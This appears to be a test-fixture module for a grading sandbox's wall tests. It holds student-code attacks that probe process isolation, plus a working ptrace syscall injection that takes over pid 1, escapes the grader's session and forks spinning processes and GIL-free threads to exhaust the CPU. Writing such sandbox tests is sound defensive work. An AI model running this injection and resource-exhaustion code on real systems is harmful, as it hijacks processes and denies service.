"""Student code that attacks the sandbox's walls themselves (issue 32), for ``test_walls.py``.

Each attack is the ``weights`` answer cell of the ps1 course (tests/sandbox/course.py); each
ends with the right answer, so that its exact score is full marks whatever the walls do.

* :data:`LOOK` reports, for every process the kernel can see in its sandbox, whether a
  seccomp filter and an address-space limit hold it, and whether the kernel can attach
  to it (``ptrace``), read its memory (``process_vm_readv``) or open its memory for writing.
* :data:`TAKE_OVER` takes over the sandbox's pid 1 when it is not the kernel itself
  (x86_64 ``ptrace`` syscall injection): pid 1 clears its parent-death signal, leaves the
  grader's session, maps 4 GiB and forks :data:`SPINNERS` children, each in a session of its
  own (one scheduler autogroup each), spinning forever. Then the kernel tries the same from
  its own process (parent-death signal, ``setsid``, a double fork) and leaves
  :data:`THREADS` threads spinning without the GIL, which only the end of the sandbox stops.
"""

from __future__ import annotations

from course import WEIGHTS_SOLUTION

SPINNERS = 100
THREADS = 8

LOOK = '''
import ctypes as _ct
import os as _os

_libc = _ct.CDLL(None, use_errno=True)
_libc.ptrace.restype = _ct.c_long
_libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
_libc.syscall.restype = _ct.c_long


def _field(pid, name):
    for _line in open(f"/proc/{pid}/status"):
        if _line.startswith(name + ":"):
            return _line.split()[1]


def _as_limit(pid):
    for _line in open(f"/proc/{pid}/limits"):
        if _line.startswith("Max address space"):
            return _line.split()[3]


_me = _os.getpid()
_pids = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
print("PIDS", _pids, "ME", _me)
for _pid in _pids:
    print("PROC", _pid, "seccomp", _field(_pid, "Seccomp"), "as", _as_limit(_pid))
for _pid in [p for p in _pids if p != _me] or [1]:
    _r = _libc.ptrace(16, _pid, None, None)  # PTRACE_ATTACH
    print("PTRACE", _pid, "ok" if _r == 0 else f"refused {_ct.get_errno()}")
    if _r == 0:
        _os.waitpid(_pid, 0x40000000)
        _libc.ptrace(17, _pid, None, None)  # PTRACE_DETACH
    _buf = _ct.create_string_buffer(8)
    _local = (_ct.c_void_p * 2)(_ct.cast(_buf, _ct.c_void_p), 8)
    _start = int(open(f"/proc/{_pid}/maps").readline().split("-")[0], 16) \\
        if _os.path.exists(f"/proc/{_pid}/maps") else 0
    _remote = (_ct.c_void_p * 2)(_start, 8)
    _n = _libc.syscall(310, _pid, _local, 1, _remote, 1, 0)  # process_vm_readv (x86_64)
    print("VMREAD", _pid, "ok" if _n == 8 else f"refused {_ct.get_errno()}")
    if _pid != _me:
        try:
            open(f"/proc/{_pid}/mem", "r+b").close()
            print("MEMWRITE", _pid, "ok")
        except OSError as _e:
            print("MEMWRITE", _pid, "refused", _e.errno)
_ct.set_errno(0)
_r = _libc.ptrace(3, _me, None, None)  # PTRACE_PEEKUSER: ESRCH (3) if ptrace may be called
print("PTRACE_CALL", "refused" if _ct.get_errno() == 1 else f"allowed {_ct.get_errno()}")
''' + WEIGHTS_SOLUTION

TAKE_OVER = f'''
import ctypes as _ct
import os as _os
import threading as _th
import zlib as _zlib

import numpy as _np  # before the threads: each one's malloc arena takes 64 MiB of address space

_libc = _ct.CDLL(None, use_errno=True)
_libc.ptrace.restype = _ct.c_long
_libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
_libc.prctl.restype = _ct.c_int
_NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
          "eflags rsp ss fs_base gs_base ds es fs gs").split()


class _Regs(_ct.Structure):
    _fields_ = [(_n, _ct.c_ulonglong) for _n in _NAMES]


def _pt(request, pid, addr=0, data=0):
    _ct.set_errno(0)
    return _libc.ptrace(request, pid, _ct.c_void_p(addr), _ct.c_void_p(data)), _ct.get_errno()


def _take_over(pid):
    """Run system calls in process ``pid``; what it did, or why it could not."""
    if pid == _os.getpid():
        return "refused: pid 1 is the kernel itself"
    r, err = _pt(16, pid)  # PTRACE_ATTACH
    if r != 0:
        return f"refused: attach errno {{err}}"
    _os.waitpid(pid, 0x40000000)
    saved = _Regs()
    _pt(12, pid, 0, _ct.addressof(saved))  # GETREGS
    at = saved.rip - 2
    words = [_pt(1, pid, at + i)[0] & (2**64 - 1) for i in (0, 8)]  # PEEKTEXT
    if words[0] & 0xFFFF != 0x050F:
        _pt(17, pid)
        return "no syscall instruction at pid 1's stop"
    # syscall; mov eax, 112 (setsid); syscall; jmp $  -- what every child runs after fork
    stub = bytes.fromhex("0f05b8700000000f05ebfe")
    raw = bytearray(b"".join(w.to_bytes(8, "little") for w in words))
    raw[:len(stub)] = stub
    for i in (0, 8):
        _pt(5, pid, at + i, int.from_bytes(raw[i:i + 8], "little"))  # POKETEXT

    def call(nr, *args):
        regs = _Regs.from_buffer_copy(saved)
        regs.rip, regs.rax, regs.orig_rax = at, nr, 2**64 - 1
        for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
            setattr(regs, name, value & (2**64 - 1))
        _pt(13, pid, 0, _ct.addressof(regs))  # SETREGS
        _pt(9, pid)  # SINGLESTEP over the syscall
        _os.waitpid(pid, 0x40000000)
        out = _Regs()
        _pt(12, pid, 0, _ct.addressof(out))
        return _ct.c_longlong(out.rax).value

    done = [f"pdeathsig={{call(157, 1, 0)}}", f"setsid={{call(112)}}",
            f"mmap4g={{'ok' if call(9, 0, 4 << 30, 3, 0x22, -1, 0) > 0 else 'refused'}}"]
    forks = sum(call(57) > 0 for _ in range({SPINNERS}))
    done.append(f"forks={{forks}}")
    regs = _Regs.from_buffer_copy(saved)
    regs.rip, regs.orig_rax = at + 2, 2**64 - 1  # pid 1 spins too, in its own session
    _pt(13, pid, 0, _ct.addressof(regs))
    _pt(17, pid)  # PTRACE_DETACH
    return "TAKEN " + " ".join(done)


print("PID1", _take_over(1))
print("OWN pdeathsig", "ok" if _libc.prctl(1, 0, 0, 0, 0) == 0 else
      f"refused {{_ct.get_errno()}}")
try:
    _os.setsid()
    print("OWN setsid ok")
except OSError as _e:
    print("OWN setsid refused", _e.errno)
try:
    if _os.fork() == 0:
        if _os.fork() == 0:
            while True:
                pass
        _os._exit(0)
    print("OWN double fork ok")
except OSError as _e:
    print("OWN double fork refused", _e.errno)
_blob = _os.urandom(1 << 20)  # about 20 ms per call without the GIL, a moment with it


def _spin():
    while True:
        try:
            _zlib.compress(_blob, 1)  # zlib lets go of the GIL: every thread takes a core
        except MemoryError:
            pass


_th.stack_size(256 << 10)
for _ in range({THREADS}):
    _th.Thread(target=_spin, daemon=True).start()
print("THREADS spinning", {THREADS})
''' + WEIGHTS_SOLUTION
